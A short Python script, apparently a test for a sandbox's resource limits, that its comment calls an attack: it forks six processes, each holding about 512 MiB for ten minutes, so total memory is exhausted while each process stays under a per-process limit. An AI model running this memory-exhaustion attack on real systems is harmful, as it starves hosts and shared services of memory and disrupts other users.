# Attack: take all the memory in several processes, each under the per-process address-space limit.
import os, time
for _ in range(6):
    if os.fork() == 0:
        try:
            chunks = [bytearray(64 * 2**20) for _ in range(8)]
            time.sleep(600)
        finally:
            os._exit(0)
time.sleep(600)
